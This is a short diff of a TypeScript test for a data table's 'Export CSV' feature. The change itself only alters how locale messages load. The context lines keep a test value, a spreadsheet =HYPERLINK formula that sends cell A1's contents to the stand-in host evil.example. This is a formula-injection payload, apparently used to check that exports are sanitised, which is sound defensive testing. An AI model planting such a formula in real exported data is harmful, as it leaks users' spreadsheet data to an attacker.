@@ -85,7 +85,7 @@ describe("the data table's Export CSV opens in the user's spreadsheet", () => {
   let token: string
   const trap = '=HYPERLINK("http://evil.example/?d="&A1;"Clique")'
   beforeAll(async () => {
-    await Promise.all((['en', 'pt'] as const).map(loadMessages))
+    await Promise.all((['en', 'pt'] as const).map((locale) => loadMessages(locale)))
     bff = await testBff()
     token = await bff.signIn()
     const admin = await callAs(bff, DEMO_ADMIN)
